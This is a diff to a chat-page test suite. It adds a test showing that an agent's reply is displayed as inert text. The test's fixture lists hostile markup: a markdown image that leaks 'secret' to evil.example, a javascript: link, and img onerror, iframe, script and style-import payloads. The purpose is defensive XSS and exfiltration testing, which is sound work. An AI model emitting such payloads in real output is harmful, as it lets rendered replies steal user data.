@@ -43,6 +43,24 @@ describe('ChatPage', () => {
     expect(calls.find(({ path }) => path.startsWith('/a2a/'))?.headers.get('A2A-Version')).toBe('1.0')
   })
 
+  it('shows what an agent answers as text: nothing in it is loaded or can be followed', async () => {
+    const hostile = [
+      '![stolen](https://evil.example/log?data=secret)',
+      '[click](javascript:alert(1)) <https://evil.example/?data=secret>',
+      '<img src=x onerror="fetch(1)"><iframe src="https://evil.example"></iframe><script>alert(1)</script>',
+      '<a href="https://evil.example">here</a><style>@import url(https://evil.example)</style>',
+    ].join('\n')
+    agent({
+      SendStreamingMessage: () =>
+        events(rpc({ task: task('TASK_STATE_COMPLETED', { artifacts: [{ artifactId: 'a', parts: [{ text: hostile }] }] }) })),
+    })
+    open('/chat/:agent', '/chat/echo', <ChatPage />)
+    await say('Hi')
+    expect((await screen.findByText(/stolen/)).textContent).toContain(hostile)
+    expect(document.querySelectorAll('img, iframe, script, style, object, [src], [onerror]')).toHaveLength(0)
+    for (const link of document.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^\/(?!\/)/)
+  })
+
   it('goes on in the same conversation', async () => {
     const calls = agent({ SendStreamingMessage: () => events(rpc({ task: task('TASK_STATE_COMPLETED') })) })
     open('/chat/:agent', '/chat/echo', <ChatPage />)
